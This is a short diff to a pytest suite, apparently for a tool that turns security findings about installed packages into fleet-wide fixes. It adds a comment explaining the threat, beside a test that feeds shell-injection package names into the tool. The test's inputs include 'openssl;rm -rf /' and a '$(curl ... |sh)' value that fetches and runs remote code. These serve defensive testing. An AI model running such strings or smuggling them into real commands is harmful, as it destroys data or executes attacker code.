@@ -198,6 +198,8 @@ def test_shell_metacharacters_in_fix_are_refused(fix: str) -> None:
 
 @pytest.mark.parametrize("name", ["openssl;rm -rf /", "$(curl -s https://203.0.113.9/x|sh)", "-y", "openssl libs"])
 def test_shell_metacharacters_in_an_inspector_package_name_leave_the_finding_unactionable(name: str) -> None:
+    # Inspector reports the packages installed on a machine: whoever can install one there names it,
+    # and a finding's fixes are installed fleet-wide.
     good = copy.deepcopy(FINDING)
     bad = finding_naming(name)
     # A batch with the bad finding in it: the others are answered, the bad one is not acted on.
